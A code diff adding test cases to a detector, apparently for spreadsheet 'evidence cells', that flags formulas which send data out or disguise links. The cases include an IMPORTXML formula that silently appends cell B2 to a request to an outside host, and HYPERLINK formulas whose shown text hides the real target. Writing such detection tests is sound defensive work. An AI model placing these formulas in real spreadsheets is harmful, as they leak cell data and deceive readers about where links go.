@@ -277,6 +277,18 @@ describe("[E5] [M7] what a formula makes of an evidence cell", () => {
       ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
     ],
     [
+      "one that shows nothing",
+      "",
+      '=IF(1;"";IMPORTXML("https://a.vn/?"&B2;"//a"))',
+      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
+    ],
+    [
+      "a known host's address over a stranger's link",
+      "https://dropbox.com/s/1",
+      '=HYPERLINK("https://a.example.com/s/1";"https://dropbox.com/s/1")',
+      ["evidence-missing C2 [1.1]", "link-suspicious C2 [1.1]"],
+    ],
+    [
       "words over a link that pretends",
       "Xem",
       '=HYPERLINK("https://google.com@a.vn";"Xem")',
